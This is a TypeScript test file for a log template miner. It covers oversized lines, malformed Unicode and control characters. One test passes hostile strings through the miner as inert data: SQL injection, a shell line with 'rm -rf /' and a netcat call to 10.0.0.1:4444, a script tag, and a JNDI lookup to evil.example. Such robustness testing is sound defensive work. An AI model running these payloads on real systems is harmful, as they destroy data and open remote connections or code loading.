import { describe, expect, it } from 'vitest';
import { TemplateMiner } from '../../src/patterns/miner.ts';

describe('hostile and oversized input', () => {
  it('handles a 1 MB line by considering only a bounded prefix', () => {
    const m = new TemplateMiner();
    const words = 'lorem ipsum 12345 dolor '.repeat(50_000);
    expect(words.length).toBeGreaterThan(1_000_000);
    const r = m.add(words, 0);
    expect(r.isNew).toBe(true);
    expect(r.template.split(' ').length).toBe(m.options.maxTokens);
    expect(r.template.length).toBeLessThan(m.options.maxLineChars);
    // A 1 MB token without whitespace is one variable.
    expect(m.add('x'.repeat(1 << 20), 0).template).toBe('<*>');
    // Unbalanced quotes stop at a bounded distance instead of scanning the line.
    expect(m.add('"' + 'a '.repeat(500_000), 0).template.length).toBeLessThan(m.options.maxLineChars);
  });

  it('treats SQL, shell metacharacters and markup as plain data', () => {
    const m = new TemplateMiner();
    const hostile = [
      `'; DROP TABLE users; -- OR 1=1`,
      '$(rm -rf /) && `reboot` | nc 10.0.0.1 4444 > /dev/null 2>&1',
      '<script>alert(1)</script> ${jndi:ldap://evil.example/a} %s%n%x \\x00',
      '(((((((((((((((((((((((((((((((((((((((((((((a)))))))))))))))))))))))))))))))))))))))))))))',
    ];
    for (const line of hostile) {
      const r = m.add(line, 0);
      expect(typeof r.template).toBe('string');
      expect(r.signature).toMatch(/^[0-9a-f]{16}$/);
    }
    expect(m.size).toBe(hostile.length);
  });

  it('handles invalid UTF-16 and replacement characters without throwing', () => {
    const m = new TemplateMiner();
    const broken = 'bad \uD800 surrogate \uDFFF and \uFFFD\uFFFD bytes 42';
    const a = m.add(broken, 0);
    const b = m.add(broken.replace('42', '43'), 0);
    expect(b.clusterId).toBe(a.clusterId);
    expect(a.signature).toMatch(/^[0-9a-f]{16}$/);
  });

  it('handles pathological whitespace and control characters', () => {
    const m = new TemplateMiner();
    expect(m.add('\t\ta \u0000 b\r\n', 0).template).toBe('a b');
    expect(m.add(' '.repeat(1 << 20), 0).template).toBe('');
  });
});
